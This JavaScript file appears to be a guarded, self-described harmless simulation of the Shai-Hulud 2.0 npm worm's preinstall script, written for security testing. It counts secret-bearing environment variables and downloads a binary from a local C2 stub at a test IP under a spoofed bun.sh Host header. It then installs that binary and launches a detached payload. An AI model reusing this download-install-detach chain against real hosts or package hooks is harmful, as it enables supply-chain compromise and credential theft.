// guarded-install attack simulation (harmless) of Shai-Hulud 2.0's preinstall
// setup_bun.js (November 2025). Steps, ~0.5-1 s apart:
//   1. look for bun; read env tokens                                  (t = 0)
//   2. "install bun": GET the C2 /bun (Host: bun.sh)                  (t ~ 0.5 s)
//   3. write it to $HOME/.bun/bin/bun, chmod +x                       (t ~ 1.3 s)
//   4. run `bun bun_environment.js` detached (setsid) so it outlives
//      the install; the "bun" only sleeps                             (t ~ 2 s)
// Connections go only to 203.0.113.45 (the local C2 stub).
'use strict';
const { spawn } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { guard, sleep, c2Request, step } = require('./sim-guard.js');

const SIM = 'shai-hulud-2';
guard(__dirname, SIM);

async function main() {
  // 1. recon
  const tokens = Object.keys(process.env).filter((k) => /TOKEN|SECRET|AWS_/.test(k));
  step(SIM, `env tokens present: ${tokens.length}`);
  await sleep(500);

  // 2. download the "bun runtime"
  const res = await c2Request({ urlPath: '/bun', host: 'bun.sh' });
  step(SIM, `bun downloaded (${res.status}, ${res.body.length} bytes)`);
  await sleep(800);

  // 3. install it under ~/.bun/bin
  const binDir = path.join(os.homedir(), '.bun', 'bin');
  fs.mkdirSync(binDir, { recursive: true });
  const bun = path.join(binDir, 'bun');
  fs.writeFileSync(bun, res.body);
  fs.chmodSync(bun, 0o755);
  step(SIM, `bun installed at ${bun}`);
  await sleep(700);

  // 4. run the payload with it, detached
  const child = spawn(bun, [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore', cwd: __dirname });
  child.unref();
  step(SIM, `payload started detached, pid ${child.pid}`);
}

main().catch((error) => {
  step(SIM, `failed: ${error.message}`);
  process.exit(0);
});
